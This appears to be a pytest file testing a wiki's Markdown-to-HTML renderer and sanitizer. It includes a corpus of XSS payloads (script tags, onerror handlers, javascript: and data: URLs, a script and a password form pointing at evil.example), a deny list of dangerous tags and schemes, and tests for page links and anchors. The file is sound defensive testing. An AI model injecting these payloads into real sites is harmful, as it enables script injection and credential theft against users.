"""The wiki's renderer (issue 11): Markdown by markdown-it-py, then nh3 on the final HTML.

The XSS corpus goes in as page text; whatever comes out is parsed again and must hold no
script, no event handler, no ``javascript:`` / ``data:`` / ``vbscript:`` URL, no ``style``, no
SVG, MathML, frame, form or object. Links between pages resolve from the page's folder (CJK and
slashes included), images and links under ``_files/`` to the attachment URL.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.wiki.rendering import diff_lines, page_url, render_markdown

TEAM = 7

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">raw anchor</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "[link](javascript:alert(1))",
    "[upper](JAVASCRIPT:alert(1))",
    "[spaced](java\tscript:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[percent](javascript%3Aalert(1))",
    "[vb](vbscript:msgbox(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![data image](data:image/png;base64,iVBORw0KGgo=)",
    "![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![js image](javascript:alert(1))",
    '[title](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<https://example.com/ok>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- <script>alert(1)</script> -->",
    "<style>body{display:none}</style>",
    "| a | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
]

BAD_TAGS = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input",
            "button", "textarea", "select", "base", "meta", "link", "body", "details", "frame",
            "frameset", "noscript", "template"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "file:")


class _Elements(HTMLParser):
    """Every element and attribute of an HTML fragment, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_harmless(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag not in BAD_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in ("style", "srcdoc", "formaction", "action", "id", "name"), (
                tag, name, html)
            if name in ("href", "src"):
                url = "".join(value.split()).lower()
                assert not url.startswith(BAD_SCHEMES), (tag, name, value)
            if name == "class":
                assert set(value.split()) <= {"wiki-missing", "wiki-align-left",
                                              "wiki-align-center", "wiki-align-right"}, value
        if tag == "a" and "href" in attrs:
            assert attrs.get("rel") == "noopener noreferrer", attrs


@pytest.mark.parametrize("payload", CORPUS)
def test_no_payload_of_the_corpus_survives_the_renderer(payload: str) -> None:
    html = render_markdown(payload, team_id=TEAM, page_path="Home.md")
    assert_harmless(html)
    lowered = html.lower()
    assert "<script" not in lowered and "<svg" not in lowered and "<style" not in lowered
    # "javascript:" may remain as visible text (a refused link is shown as typed), never as a URL


def test_the_whole_corpus_as_one_page_is_harmless_and_raw_html_is_text() -> None:
    html = render_markdown("\n\n".join(CORPUS), team_id=TEAM, page_path="ops/Runbook.md")
    assert_harmless(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # typed HTML is shown as text


def test_typed_html_is_shown_as_text_not_dropped() -> None:
    html = render_markdown("Before <b>bold?</b> after", team_id=TEAM)
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html and "<b>" not in html


def test_markdown_itself_still_renders() -> None:
    html = render_markdown("# Title\n\n**bold** *em* ~~gone~~ `code`\n\n- one\n- two\n\n"
                           "> quoted\n\n```\nfenced\n```\n\n3. three\n4. four\n",
                           team_id=TEAM)
    for fragment in ('<h1 id="section-title">Title</h1>', "<strong>bold</strong>",
                     "<em>em</em>", "<s>gone</s>", "<code>code</code>", "<li>one</li>",
                     "<blockquote>", "<pre><code>fenced",
                     '<ol start="3">'):
        assert fragment in html, (fragment, html)


def test_external_links_keep_their_url_and_get_noopener() -> None:
    html = render_markdown("[site](https://example.com/a?b=1) [mail](mailto:ops@example.com)",
                           team_id=TEAM)
    assert '<a href="https://example.com/a?b=1" rel="noopener noreferrer">site</a>' in html
    assert 'href="mailto:ops@example.com"' in html


def test_tables_keep_their_alignment_as_a_class_not_a_style() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |", team_id=TEAM)
    assert 'class="wiki-align-left"' in html and 'class="wiki-align-center"' in html
    assert 'class="wiki-align-right"' in html and "style" not in html


# -- links between pages --------------------------------------------------------------------


def test_a_relative_link_to_a_page_resolves_from_the_pages_folder() -> None:
    html = render_markdown("[deploy](Deploy.md#steps) [home](../Home.md) [deep](sub/x.md)",
                           team_id=TEAM, page_path="ops/Runbook.md")
    assert f'href="{page_url(TEAM, "ops/Deploy.md")}#section-steps"' in html
    assert f'href="{page_url(TEAM, "Home.md")}"' in html
    assert f'href="{page_url(TEAM, "ops/sub/x.md")}"' in html


def test_cjk_and_spaces_in_page_links_resolve_to_the_page_url() -> None:
    html = render_markdown("[手册](<运维/部署 手册.md>) [enc](My%20Page.md) [cjk](运维/手册.md)",
                           team_id=TEAM, page_path="Home.md")
    assert f'href="{page_url(TEAM, "运维/手册.md")}"' in html
    assert f'href="{page_url(TEAM, "运维/部署 手册.md")}"' in html
    assert f'href="{page_url(TEAM, "My Page.md")}"' in html
    assert page_url(TEAM, "运维/部署 手册.md") == (
        f"/teams/{TEAM}/wiki/%E8%BF%90%E7%BB%B4/%E9%83%A8%E7%BD%B2%20%E6%89%8B%E5%86%8C.md")


def test_a_link_out_of_the_wiki_loses_its_url() -> None:
    html = render_markdown("[out](../../etc/passwd.md)", team_id=TEAM, page_path="ops/x.md")
    assert "<a rel=\"noopener noreferrer\">out</a>" in html


def test_links_to_missing_pages_are_marked_and_existing_ones_are_not() -> None:
    html = render_markdown("[here](Here.md) [gone](Gone.md)", team_id=TEAM,
                           page_path="Home.md", existing={"Home.md", "Here.md"})
    assert f'<a href="{page_url(TEAM, "Here.md")}" rel' in html
    assert f'<a href="{page_url(TEAM, "Gone.md")}" class="wiki-missing"' in html


def test_attachments_resolve_to_their_url_from_any_folder() -> None:
    html = render_markdown("![diagram](_files/arch.png) [spec](../_files/spec.pdf)",
                           team_id=TEAM, page_path="ops/Runbook.md")
    assert f'<img src="{page_url(TEAM, "_files/arch.png")}" alt="diagram">' in html
    assert f'href="{page_url(TEAM, "_files/spec.pdf")}"' in html


def test_site_paths_and_other_relative_links_pass_through() -> None:
    html = render_markdown("[rooms](/rooms/) [file](notes.txt)", team_id=TEAM)
    assert 'href="/rooms/"' in html and 'href="notes.txt"' in html


def test_headings_get_anchors_that_fragment_links_reach() -> None:
    html = render_markdown("# Roll back (fast)!\n## Roll back (fast)\n### `make` 部署 步骤\n"
                           "[up](#roll-back-fast-1) [there](Deploy.md#steps)", team_id=TEAM)
    assert '<h1 id="section-roll-back-fast">' in html
    assert '<h2 id="section-roll-back-fast-1">' in html
    assert '<h3 id="section-make-部署-步骤">' in html
    assert 'href="#section-roll-back-fast-1"' in html
    assert f'href="{page_url(TEAM, "Deploy.md")}#section-steps"' in html


# -- diffs ----------------------------------------------------------------------------------


def test_diff_lines_are_typed_for_colouring() -> None:
    diff = ("diff --git a/Home.md b/Home.md\nindex 1..2 100644\n--- a/Home.md\n+++ b/Home.md\n"
            "@@ -1,2 +1,2 @@\n # Home\n-old\n+new\n\\ No newline at end of file\n")
    kinds = [line.kind for line in diff_lines(diff)]
    assert kinds == ["meta", "meta", "meta", "meta", "hunk", "context", "del", "add", "meta"]
